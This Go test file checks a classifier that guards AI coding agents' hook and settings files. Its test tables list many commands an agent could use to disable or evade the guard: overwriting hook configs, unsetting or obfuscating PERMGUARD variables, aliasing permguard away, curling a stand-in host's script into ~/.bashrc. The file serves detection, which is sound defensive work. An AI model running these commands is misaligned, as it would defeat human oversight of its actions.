package classify

import (
	"fmt"
	"strings"
	"testing"
)

// testProtected is what internal/guard builds from the hook registry for
// the home directory /home/u (guard's TestProtectedFromRegistry checks
// that every installable agent has its entries), plus permguard's binary.
// It is written out here because the classifier imports nothing of ours.
var testProtected = []ProtectedPath{
	{Path: "/home/u/.claude/settings*.json", What: "Claude Code's settings and hooks"},
	{Path: "/home/u/.claude.json", What: "Claude Code's settings and hooks"},
	{Path: ".claude/settings*.json", What: "Claude Code's settings and hooks"},
	{Path: ".mcp.json", What: "Claude Code's settings and hooks"},
	{Path: "/home/u/.claude/hooks", Tree: true, What: "Claude Code's settings and hooks", WriteOnly: true},
	{Path: ".claude/hooks", Tree: true, What: "Claude Code's settings and hooks", WriteOnly: true},
	{Path: "/home/u/.codex/hooks.json", What: "Codex's configuration and hooks"},
	{Path: "/home/u/.codex/config.toml", What: "Codex's configuration and hooks"},
	{Path: ".codex", Tree: true, What: "Codex's configuration and hooks", WriteOnly: true},
	{Path: ".codex/hooks.json", What: "Codex's configuration and hooks"},
	{Path: ".codex/config.toml", What: "Codex's configuration and hooks"},
	{Path: "/home/u/.gemini/settings.json", What: "Gemini CLI's settings and hooks"},
	{Path: "/home/u/.gemini/extensions", Tree: true, What: "Gemini CLI's settings and hooks", WriteOnly: true},
	{Path: ".gemini/settings.json", What: "Gemini CLI's settings and hooks"},
	{Path: "/home/u/.gemini/.env", What: "Gemini CLI's settings and hooks"},
	{Path: ".gemini/.env", What: "Gemini CLI's settings and hooks"},
	{Path: "/home/u/.gemini/hooks", Tree: true, What: "Gemini CLI's settings and hooks", WriteOnly: true},
	{Path: ".gemini/hooks", Tree: true, What: "Gemini CLI's settings and hooks", WriteOnly: true},
	{Path: "/home/u/.cursor/hooks.json", What: "Cursor's hooks and MCP servers"},
	{Path: ".cursor/hooks.json", What: "Cursor's hooks and MCP servers"},
	{Path: ".cursor/mcp.json", What: "Cursor's hooks and MCP servers"},
	{Path: ".github/hooks", Tree: true, What: "GitHub Copilot's hooks", WriteOnly: true},
	{Path: ".github/hooks/permguard.json", What: "GitHub Copilot's hooks"},
	{Path: "/home/u/.pi/agent/extensions", Tree: true, What: "pi's extensions and settings", WriteOnly: true},
	{Path: "/home/u/.pi/agent/extensions/permguard.ts", What: "pi's extensions and settings"},
	{Path: ".pi/extensions", Tree: true, What: "pi's extensions and settings", WriteOnly: true},
	{Path: ".pi/extensions/permguard.ts", What: "pi's extensions and settings"},
	{Path: "/home/u/.config/opencode/plugin", Tree: true, What: "opencode's plugins and configuration", WriteOnly: true},
	{Path: "/home/u/.config/opencode/plugin/permguard.js", What: "opencode's plugins and configuration"},
	{Path: ".opencode/plugin", Tree: true, What: "opencode's plugins and configuration", WriteOnly: true},
	{Path: ".opencode/plugin/permguard.js", What: "opencode's plugins and configuration"},
	{Path: ".opencode/plugins", Tree: true, What: "opencode's plugins and configuration", WriteOnly: true},
	{Path: "opencode.json", What: "opencode's plugins and configuration"},
	{Path: "/home/u/.local/bin/permguard", What: "permguard's own program"},
}

// testGuardVars are the variables internal/guard lists from the hook
// registry: each moves an agent's configuration.
var testGuardVars = []string{"CLAUDE_CONFIG_DIR", "CODEX_HOME", "GEMINI_CLI_HOME", "GEMINI_CLI_SYSTEM_DEFAULTS_PATH",
	"GEMINI_CLI_SYSTEM_SETTINGS_PATH", "PI_CODING_AGENT_DIR", "OPENCODE_CONFIG", "OPENCODE_CONFIG_CONTENT", "OPENCODE_CONFIG_DIR"}

// testAgentFootholds are the agents' files that run code later, as
// internal/guard lists them from the hook registry (guard's
// TestAgentFootholdsFromRegistry checks that each reaches the classifier).
var testAgentFootholds = []string{".claude/agents/", ".claude/commands/", ".claude/plugins/", ".claude/skills/",
	".copilot/agents/", ".copilot/mcp-config.json", ".gemini/commands/", ".github/agents/",
	".opencode/command/", ".opencode/commands/", "opencode/command/", "opencode/commands/"}

// guardFiles are one file of each agent, as an agent would name it.
var guardFiles = []string{
	".claude/settings.local.json", "~/.claude/settings.json", ".mcp.json", ".codex/hooks.json",
	"~/.codex/config.toml", ".gemini/settings.json", "~/.gemini/settings.json", ".cursor/hooks.json",
	".cursor/mcp.json", ".github/hooks/permguard.json", ".pi/extensions/permguard.ts",
	"~/.pi/agent/extensions/permguard.ts", ".opencode/plugin/permguard.js", "~/.config/opencode/plugin/permguard.js",
	"opencode.json", "~/.local/bin/permguard",
}

// guardSpellings are ways to change a file, %s standing for it. More are
// kept out of the table, in TestGuardHeldOut, to check that the rule is
// about the file and not about these words.
var guardSpellings = []string{
	`echo '{"disableAllHooks": true}' > %s`,
	`echo x >> %s`,
	`echo x | tee %s`,
	`sed -i s/permguard/true/ %s`,
	`cp /tmp/x %s`,
	`mv /tmp/x %s`,
	`rm %s`,
	`dd if=/tmp/x of=%s`,
	`git mv x %s`,
	`git rm %s`,
	`git checkout HEAD -- %s`,
	`python3 -c 'open("%s", "w").write("{}")'`,
	`chmod 000 %s`,
}

// integrityCases: design §2.9, the guard's integrity. Built from
// guardFiles × guardSpellings, then the rest by hand.
var integrityCases = func() []classifyCase {
	var cs []classifyCase
	for _, f := range guardFiles {
		for _, sp := range guardSpellings {
			rule := guardRuleID
			if strings.HasPrefix(sp, "python3") {
				rule = "inline-code-guard"
			}
			cs = append(cs, dangerous(fmt.Sprintf(sp, f), rule))
		}
	}
	return append(cs,
		// a directory that holds an agent's hooks takes them with it
		dangerous("rm -rf .claude", ""),
		dangerous("rm -r .github", guardRuleID),
		dangerous("mv ~/.claude ~/.claude.bak", guardRuleID),
		dangerous("mv .codex /tmp/", guardRuleID),
		dangerous("cp -r /tmp/evil/.claude .", guardRuleID),
		dangerous("cp /tmp/settings.local.json .claude/", guardRuleID),
		dangerous("git rm -r .github/hooks", guardRuleID),
		// a link to one lets a later write that names no protected file
		// change it
		dangerous("ln -s ~/.claude/settings.json notes.json", guardRuleID),
		// more ways to take them away or change them
		dangerous("git stash -u", ruleGitStashGuard.id),
		dangerous("git stash push --all", ruleGitStashGuard.id),
		dangerous("git stash save --include-untracked wip", ruleGitStashGuard.id),
		medium("git stash", "git-local"),
		medium("git stash -u -- src", "git-local"),
		dangerous("chmod 000 .claude", guardRuleID),
		dangerous("chown root ~/.codex", guardRuleID),
		dangerous("chattr +i .claude/settings.json", guardRuleID),
		dangerous("ln .claude/settings.json notes.json", guardRuleID),
		dangerous("vim -c ':%d|wq' .claude/settings.json", guardRuleID),
		dangerous("ed -s .mcp.json <<< $'1d\\nw'", guardRuleID),
		dangerous("bsdtar -xf x.tar", guardRuleID),
		dangerous("gtar xf x.tar -C .claude", guardRuleID),
		low("chmod 755 scripts", "chmod-workspace"),
		high("vim notes.md", "editor"),
		// the scripts hooks run
		dangerous("echo 'exit 0' > .claude/hooks/guard.sh", guardRuleID),
		dangerous("sed -i 's/exit 2/exit 0/' ~/.claude/hooks/pre.sh", guardRuleID),
		// the scripts hooks run and the other files beside permguard's
		// entry: changing one is dangerous, deleting one is a delete in
		// the workspace (ProtectedPath.WriteOnly); the entry itself and a
		// directory that holds it stay dangerous to delete
		medium("rm -rf .gemini/hooks", "rm"),
		medium("rm .claude/hooks/old-lint.sh", "rm"),
		medium("rm -rf .codex/cache", "rm"),
		medium("rm .github/hooks/lint.json", "rm"),
		medium("rm -rf .pi/extensions/old-ext", "rm"),
		medium("find . -type d -name node_modules -prune -exec rm -rf {} +", "rm"),
		dangerous("echo '{}' > .github/hooks/lint.json", guardRuleID),
		dangerous("echo x > .codex/rules/default.rules", guardRuleID),
		dangerous("rm .github/hooks/permguard.json", guardRuleID),
		dangerous("rm .codex/config.toml", guardRuleID),
		dangerous("rm -rf .codex", "rm-recursive-force"),
		dangerous("rm -rf .github/hooks", "rm-recursive-force"),
		dangerous("rm -rf .claude", "rm-recursive-force"),
		dangerous("rm -rf .opencode", "rm-recursive-force"),
		// a name find looks for that a file holding an entry may have
		dangerous("find . -name '*.json' -delete", guardRuleID),
		dangerous("find . -name 'settings*.json' -delete", guardRuleID),
		dangerous("find . -name config.toml -exec rm {} +", guardRuleID),
		dangerous("find . -name '*.ts' -delete", guardRuleID),
		dangerous("find . -name '*.js' -exec rm -f {} +", guardRuleID),
		dangerous("find . -name '*.sh' -exec sed -i s/a/b/ {} +", guardRuleID),
		dangerous("cp /tmp/x.sh ~/.gemini/hooks/", guardRuleID),
		// but not what lies beside them
		// (a sub-agent definition runs code later: a foothold, high, not
		// a guard file)
		high("echo x > .claude/agents/reviewer.md", "write-persistence"),
		low("echo x > .github/workflows/ci.yml", "write-file"),
		low("echo x > docs/claude-settings.md", "write-file"),
		low("mkdir -p .codex", "file-create"),
		low("cp .claude/settings.json /tmp/backup.json", "file-copy"),
		minimal("cat .claude/settings.json", "read-only"),
		minimal("grep -r hooks .github/hooks", ""),
		high("python3 -c 'print(1)'", "inline-code"),

		// archives and patches whose members are unknown, extracted into a
		// directory that holds an agent's files or that an agent reads its
		// project settings from
		dangerous("tar -xf x.tar -C .claude", guardRuleID),
		dangerous("tar xf x.tar", guardRuleID),
		dangerous("tar -xzf /tmp/x.tgz -C ~/.gemini", guardRuleID),
		dangerous("tar --extract --file x.tar --directory ~", guardRuleID),
		dangerous("unzip -o x.zip", guardRuleID),
		dangerous("unzip x.zip -d .codex", guardRuleID),
		dangerous("unzip -q x.zip -d .cursor", guardRuleID),
		dangerous("7z x x.7z", guardRuleID),
		dangerous("git apply x.patch", guardRuleID),
		dangerous("git am < x.mbox", guardRuleID),
		dangerous("git am --continue", guardRuleID),
		dangerous("patch -p1 < x.diff", guardRuleID),
		dangerous("cd .github && patch -p0 -i /tmp/x.diff", guardRuleID),
		low("tar -xf x.tar -C build", "tar-extract"),
		low("tar xf x.tar --one-top-level", "tar-extract"),
		low("unzip x.zip -d third_party", "archive-write"),
		minimal("tar tf x.tar", "tar-list"),
		minimal("unzip -l x.zip", "archive-list"),
		low("tar czf out.tgz dir", "tar-create"),
		medium("git apply --check x.patch", "git-local"),
		medium("git apply --cached x.patch", "git-local"),
		medium("git am --show-current-patch", "git-local"),
		low("patch -p1 --dry-run < x.diff", "patch"),
		low("patch src/a.c < x.diff", "patch"),

		// a tree copied, moved or linked to where a directory of an
		// agent's files would be: it becomes that directory
		dangerous("cp -r dir .claude", guardRuleID),
		dangerous("cp -R /tmp/x ~/.claude", guardRuleID),
		dangerous("cp -a /tmp/x .github/hooks", guardRuleID),
		dangerous("cp -r dir/. .gemini/", guardRuleID),
		dangerous("cp -rT /tmp/x .cursor", guardRuleID),
		dangerous("mv tmpdir .cursor", guardRuleID),
		dangerous("mv /tmp/x ~/.codex", guardRuleID),
		dangerous("rsync -a x/ .codex", guardRuleID),
		dangerous("rsync -a /tmp/x/ .", guardRuleID),
		dangerous("cp -r /tmp/x/. .", guardRuleID),
		dangerous("ln -s /tmp/d .claude", guardRuleID),
		dangerous("ln -sfn /tmp/d ~/.gemini", guardRuleID),
		low("cp -r dir build", "file-copy"),
		// the mode mkdir and install set is judged as chmod's
		low("install -m 755 build/app dist/app", "file-copy"),
		low("mkdir -m 700 .cache", "file-create"),
		dangerous("install -m 4755 build/app dist/app", "chmod-setuid"),
		dangerous("mkdir -m 777 shared", "chmod-world"),
		dangerous("install --mode=0777 x out/x", "chmod-world"),
		low("cp -r src/. build/", "file-copy"),
		low("mv tmpdir out", "file-move"),
		low("cp notes.txt .claude", "file-copy"),
		low("ln -s /tmp/d cache", "file-link"),

		// deletes by find that can reach an agent's files
		dangerous("find . -name settings.local.json -exec rm {} +", guardRuleID),
		dangerous("find . -name 'settings*.json' -delete", guardRuleID),
		dangerous("find . -path '*/.claude/*' -delete", guardRuleID),
		dangerous("find .claude -type f -delete", guardRuleID),
		dangerous("find ~ -name hooks.json -delete", guardRuleID),
		dangerous("find . -maxdepth 1 -name '*.json' -delete", guardRuleID),
		dangerous("find . -name x -o -name y -delete", guardRuleID),
		dangerous("find . -name '*.json' -execdir mv {} {}.bak \\;", guardRuleID),
		medium("find . -name '*.pyc' -delete", "find-delete"),
		medium("find . -maxdepth 1 -name '*.log' -delete", "find-delete"),
		medium("find src -name '*.json' -delete", "find-delete"),
		medium("find . -path './node_modules/*' -delete", "find-delete"),
		minimal("find . -name settings.local.json -exec cat {} +", "find"),

		// permguard's variables, for a child or for later sessions
		dangerous("env -i claude -p hi", "self-protect-env"),
		dangerous("env --ignore-environment codex", "self-protect-env"),
		dangerous("env - PATH=/usr/bin claude", "self-protect-env"),
		dangerous("setsid -w env -i claude", "self-protect-env"),
		dangerous("exec -c claude", "self-protect-env"),
		dangerous("env -S '-i claude'", "self-protect-env"),
		high("env -i", "print-env"),
		dangerous("env -u PERMGUARD_LEVEL claude -p hi", "self-protect"),
		dangerous("env --unset=PERMGUARD_MODE ls", "self-protect"),
		dangerous("launchctl setenv PERMGUARD_LEVEL high", "self-protect"),
		dangerous("systemctl --user set-environment PERMGUARD_LEVEL=high", "self-protect"),
		dangerous("tmux set-environment -g PERMGUARD_MODE ask", "self-protect"),
		dangerous(`echo 'export PERMGUARD_LEVEL=high' >> ~/.bashrc`, "self-protect-startup"),
		dangerous(`echo 'export PERMGUARD_LEVEL=high' >> .envrc`, "self-protect-startup"),
		dangerous(`python3 -c 'import os; os.environ["PERMGUARD_LEVEL"]="high"; os.execvp("claude", ["claude"])'`, "inline-code-guard"),
		high("echo 'export EDITOR=vim' >> ~/.bashrc", "write-persistence"),
		// a startup file given content that cannot be read now could set
		// or unset permguard's variables, or alias permguard away
		dangerous("base64 -d <<< ZXhwb3J0IFg9MQ== >> ~/.bashrc", "write-startup-unknown"),
		dangerous("xxd -r -p x.hex >> ~/.profile", "write-startup-unknown"),
		dangerous("printf '%s\\n' \"$LINE\" | tee -a ~/.zshrc", "write-startup-unknown"),
		dangerous("curl -s https://x.example/rc | tee -a ~/.bashrc", "write-startup-unknown"),
		dangerous(`echo "$X" >> ~/.bashrc`, "write-startup-unknown"),
		dangerous("cat /tmp/rc >> ~/.zshenv", "write-startup-unknown"),
		dangerous("cp /tmp/rc ~/.bash_profile", "write-startup-unknown"),
		dangerous("sed -i 's/^export A=.*//' ~/.bashrc", "write-startup-unknown"),
		dangerous("cat x >> .envrc", "write-startup-unknown"),
		dangerous("{ echo a; cat x; } >> ~/.bashrc", "write-startup-unknown"),
		dangerous("echo 'alias permguard=true' >> ~/.bashrc", "self-protect-startup"),
		// text that names permguard's variables or files, wherever it lands
		dangerous(`printf 'PERMGUARD_LEVEL=high\n' > .env`, "self-protect-content"),
		dangerous(`echo "export PERMGUARD_MODE=off" > scripts/setup.sh`, "self-protect-content"),
		dangerous("echo PERMGUARD_LEVEL=high | tee -a config/app.env", "self-protect-content"),
		dangerous("cat > notes/x.txt <<'EOF'\nPERMGUARD_LEVEL=high\nEOF", "self-protect-content"),
		dangerous(`echo '{"dir": "~/.config/permguard"}' > conf.json`, "self-protect-content"),
		dangerous("echo 'rm -r .permguard' > tools/clean.sh", "self-protect-content"),
		dangerous(`printf 'PERMGUARD_LEVEL=high\n' > /tmp/x.env`, "self-protect-content"),
		// the text as it lands: printf's escapes and formats, echo -e,
		// $'...', values; sed's added lines and replacements; standard
		// input copied to a file (issue 27, class 2)
		dangerous(`printf '\x50ERMGUARD_LEVEL=bypassed\n' > .env`, "self-protect-content"),
		dangerous(`echo $'\x50ERMGUARD_LEVEL=bypassed' > .env`, "self-protect-content"),
		dangerous(`echo -e '\x50ERMGUARD_LEVEL=x' > .env`, "self-protect-content"),
		dangerous(`printf '%sGUARD_LEVEL=x\n' PERM > .env`, "self-protect-content"),
		dangerous(`printf '\u0050ERMGUARD_LEVEL=x\n' > .env`, "self-protect-content"),
		dangerous(`a=PERM; echo "${a}GUARD_MODE=off" > .env`, "self-protect-content"),
		dangerous(`sed -i '1i PERMGUARD_LEVEL=bypassed' .env`, "self-protect-content"),
		dangerous(`sed -i 's/^LEVEL=.*/PERMGUARD_LEVEL=off/' .env`, "self-protect-content"),
		dangerous(`sed 's/x/PERMGUARD_LEVEL=off/' a.env > .env`, "self-protect-content"),
		dangerous(`cp /dev/stdin .env <<< 'PERMGUARD_LEVEL=bypassed'`, "self-protect-content"),
		dangerous(`dd of=.env <<< 'PERMGUARD_LEVEL=bypassed'`, "self-protect-content"),
		dangerous(`cat /dev/stdin > .env <<< 'PERMGUARD_LEVEL=x'`, "self-protect-content"),
		low(`printf '\x50ERMIT=1\n' > .env`, "write-file"),
		low(`sed -i 's/a/b/' notes.txt`, "write-file"),
		low(`echo '\x50ERMGUARD_LEVEL=x' > notes.txt`, "write-file"),
		low("echo 'permguard check passed' > out.txt", "write-file"),
		low("echo PERMGUARD > out.txt", "write-file"),
		dangerous("echo 'export CODEX_HOME=/tmp/c' >> ~/.zshrc", "self-protect-startup"),
		high("printf 'export EDITOR=vim\\n' >> ~/.bashrc", "write-persistence"),
		high("echo 'set -o vi' | tee -a ~/.bashrc", "write-persistence"),
		high("cat >> ~/.bashrc <<'EOF'\nalias ll='ls -l'\nEOF", "write-persistence"),
		high("echo 'export A=1' >> .envrc", "write-persistence"),
		high("cat x >> ~/.gitconfig", "write-persistence"),
		// the variables that move an agent's configuration, for a child
		dangerous("CODEX_HOME=/tmp/c codex exec hi", "self-protect-move"),
		dangerous("env CLAUDE_CONFIG_DIR=/tmp/c claude -p hi", "self-protect-move"),
		dangerous("export GEMINI_CLI_HOME=/tmp/g", "self-protect-move"),
		minimal("env -u HOME ls", "read-only"),

		// permguard run by the agent
		dangerous("permguard exec --level high -- rm -rf build", "self-protect-level"),
		dangerous("permguard exec --level=high ls", "self-protect-level"),
		dangerous("permguard exec rm -rf ~", "rm-recursive-force"),
		minimal("permguard exec -- ls", "permguard-exec"),
		minimal("permguard exec ls -l", "permguard-exec"),

		// footholds: at least high, never low
		high("echo x > .husky/pre-commit", "write-persistence"),
		high("echo '{}' > .vscode/tasks.json", "write-persistence"),
		high("echo '{}' > .vscode/settings.json", "write-persistence"),
		high("echo '{}' > .devcontainer/devcontainer.json", "write-persistence"),
		high("echo x > .git/modules/vendor/lib/hooks/post-checkout", "write-persistence"),
		high("echo x > .venv/lib/python3.12/site-packages/evil.pth", "write-persistence"),
		high("git config core.hooksPath tools/hooks && echo x > tools/hooks/pre-commit", "write-persistence"),
		// the foothold class (policy_footholds.go): hook managers, build
		// and package tools that load code at start, directory environments
		high("printf 'repos: []\\n' > .pre-commit-config.yaml", "write-persistence"),
		high("printf 'pre-commit:\\n' > lefthook.yml", "write-persistence"),
		high("echo x > .config/lefthook.yaml", "write-persistence"),
		high("cp /tmp/l lefthook-local.toml", "write-persistence"),
		high("echo x > .lefthook/pre-commit/run.sh", "write-persistence"),
		high("echo x > .overcommit.yml", "write-persistence"),
		high("echo x > gradle/wrapper/gradle-wrapper.properties", "write-persistence"),
		high("echo x >> ~/.gradle/init.d/a.gradle", "write-persistence"),
		high("echo x > .mvn/extensions.xml", "write-persistence"),
		high("cp p.cjs .yarn/plugins/p.cjs", "write-persistence"),
		high("echo x > .pnpmfile.cjs", "write-persistence"),
		high("printf 'preload = [\"x.ts\"]\\n' > bunfig.toml", "write-persistence"),
		high("echo x >> .bazelrc", "write-persistence"),
		high("printf '[hooks]\\n' > mise.toml", "write-persistence"),
		high("tee .mise.local.toml < x", "write-persistence"),
		high("cp x sub/LEFTHOOK.YML", "write-persistence"),
		high("cp x .pre-commit-conf*.yaml", "write-persistence"),
		// editors' and their agents' MCP servers and hooks, and the start-up
		// files of more build and environment tools (issue 27, class 1)
		high("printf '{\"servers\":{}}' > .vscode/mcp.json", "write-persistence"),
		high("cp /tmp/m.json .vscode/mcp.json", "write-persistence"),
		high("echo '{}' > .zed/settings.json", "write-persistence"),
		high("tee .kiro/hooks/lint.kiro.hook < x", "write-persistence"),
		high("echo '{}' > .roo/mcp.json", "write-persistence"),
		high("echo '{}' > .amazonq/mcp.json", "write-persistence"),
		high("printf '{\"shell\":{\"init_hook\":\"x\"}}' > devbox.json", "write-persistence"),
		high("echo 'BAZELISK_BASE_URL=https://x.example' > .bazeliskrc", "write-persistence"),
		high("echo -J-javaagent:/tmp/a.jar > .jvmopts", "write-persistence"),
		high("echo -J-javaagent:/tmp/a.jar >> .sbtopts", "write-persistence"),
		high("printf '[toolchain]\\npath = \"/tmp/t\"\\n' > rust-toolchain.toml", "write-persistence"),
		high("printf '[activation]\\n' > pixi.toml", "write-persistence"),
		high("echo 'GOFLAGS=-toolexec=/tmp/x' >> ~/.config/go/env", "write-persistence"),
		low("echo '{}' > .zed/notes.json", "write-file"),
		low("echo x > docs/devbox.md", "write-file"),
		// the agents' files that run code later (Env.AgentFootholds)
		high("printf 'run !`make`\\n' > .claude/commands/go.md", "write-persistence"),
		high("printf -- '---\\nhooks:\\n' > .claude/agents/r.md", "write-persistence"),
		high("cp -r /tmp/s .claude/skills/", "write-persistence"),
		high("echo x >> ~/.claude/commands/go.md", "write-persistence"),
		high("tee -a ~/.gemini/commands/r.toml < x", "write-persistence"),
		dangerous("echo x > ~/.claude/commands/go.md", "overwrite-startup"), // as every foothold in the home (§2.6)
		high("echo x > .opencode/command/r.md", "write-persistence"),
		high("echo x > .github/agents/r.agent.md", "write-persistence"),
		high("cp x .CLAUDE/Commands/go.md", "write-persistence"),
		high("cp x .claude/comm*/go.md", "write-persistence"),
		low("echo x > docs/claude/commands.md", "write-file"),
		low("echo x > .claude/output-styles/terse.md", "write-file"),
		// Gemini CLI loads .gemini/.env into the environment its hooks get
		dangerous("printf 'A=1\\n' > .gemini/.env", "guard-file"),
		dangerous("echo A=1 >> ~/.gemini/.env", "guard-file"),
		low("echo x > tools/lefthook.md", "write-file"),
		low("echo x > .tool-versions", "write-file"),
		low("clang-format -i src/*.c", "format-write"),
		low("echo x > tools/hooks/pre-commit", "write-file"),
		low("echo '{}' > .vscode/extensions.json", "write-file"),
		low("echo x > .venv/lib/python3.12/site-packages/mod.py", "write-file"),
	)
}()

// guardToolCases are the same files through an agent's own tools.
func TestGuardToolCalls(t *testing.T) {
	for _, f := range []string{".claude/settings.local.json", "/home/u/.codex/config.toml", ".github/hooks/permguard.json",
		"/home/u/proj/.cursor/hooks.json", ".opencode/plugin/permguard.js", "/home/u/.local/bin/permguard"} {
		for _, kind := range []ToolKind{ToolFileWrite, ToolFileDelete} {
			v := ClassifyTool(ToolCall{Kind: kind, Name: "Write", Paths: []string{f}}, testEnv)
			if !v.Dangerous || !hasReason(v, guardRuleID) {
				t.Errorf("ClassifyTool(%v %s) = %v dangerous=%v %v, want dangerous (rule %s)", kind, f, v.Level, v.Dangerous, v.Reasons, guardRuleID)
			}
		}
	}
	for _, tc := range []struct {
		path  string
		level Level
	}{
		{".husky/pre-push", High}, {".vscode/tasks.json", High}, {".devcontainer/Dockerfile", High},
		{".claude/commands/review.md", High}, {".gemini/commands/r.toml", High}, {"docs/commands/review.md", Low},
	} {
		v := ClassifyTool(ToolCall{Kind: ToolFileWrite, Name: "Write", Paths: []string{tc.path}}, testEnv)
		if v.Level != tc.level || v.Dangerous {
			t.Errorf("ClassifyTool(Write %s) = %v dangerous=%v, want %v", tc.path, v.Level, v.Dangerous, tc.level)
		}
	}
}

// TestGuardNoProtected: without Env.Protected the agents' files are
// ordinary files; the classifier knows them only through its caller.
func TestGuardNoProtected(t *testing.T) {
	env := testEnv
	env.Protected = nil
	if v := Classify("echo x > .claude/settings.json", env); v.Dangerous || v.Level != Low {
		t.Errorf("without Protected: %v dangerous=%v, want low", v.Level, v.Dangerous)
	}
}
